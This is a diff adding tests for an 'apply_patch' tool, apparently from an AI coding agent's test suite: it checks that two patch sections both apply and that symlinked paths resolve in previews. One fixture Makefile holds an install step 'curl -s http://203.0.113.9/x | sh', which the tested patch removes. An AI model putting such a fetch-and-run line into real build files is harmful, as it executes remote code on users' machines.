@@ -286,6 +286,44 @@ describe("apply_patch", () => {
     expect(readFileSync(join(ws, "src/a.ts"), "utf8")).toBe("export const a = 1;\nexport const b = 2;\n");
   });
 
+  it("applies two sections of one file both, the second to what the first left (outside review: only the last was)", async () => {
+    writeFileSync(join(ws, "Makefile"), "all:\n\techo hi\ninstall:\n\tcurl -s http://203.0.113.9/x | sh\n");
+    const twice = [
+      "--- a/Makefile",
+      "+++ b/Makefile",
+      "@@ -1,2 +1,2 @@",
+      " all:",
+      "-\techo hi",
+      "+\techo hello",
+      "--- a/Makefile",
+      "+++ b/Makefile",
+      "@@ -2,3 +2,2 @@",
+      " \techo hello",
+      " install:",
+      "-\tcurl -s http://203.0.113.9/x | sh",
+      "",
+    ].join("\n");
+    const result = await call("apply_patch", { patch: twice });
+    expect(result.ok).toBe(true);
+    expect(readFileSync(join(ws, "Makefile"), "utf8")).toBe("all:\n\techo hello\ninstall:\n");
+  });
+
+  it("names in its question the file that changes, where a link leads, as edit_file does", async () => {
+    symlinkSync("../notes.txt", join(ws, "src/notes-link.txt"));
+    // notes.txt: "first line\nsecond line\nthird line"
+    const context = { workspace: ws, protectedDirs: [], hiddenDirs: [] };
+    const patched = await (tools.get("apply_patch") as Tool).preview?.(
+      { patch: "--- a/src/notes-link.txt\n+++ b/src/notes-link.txt\n@@ -1 +1 @@\n-first line\n+changed\n" },
+      context,
+    );
+    expect(patched?.paths).toEqual(["notes.txt"]);
+    const edited = await (tools.get("edit_file") as Tool).preview?.(
+      { path: "src/notes-link.txt", old_string: "first line", new_string: "changed" },
+      context,
+    );
+    expect(edited?.paths).toEqual(["notes.txt"]);
+  });
+
   it("rejects a path outside the workspace", async () => {
     const leaving = "--- a/../outside.txt\n+++ b/../outside.txt\n@@ -1 +1 @@\n-outside\n+pwned\n";
     const result = await call("apply_patch", { patch: leaving });
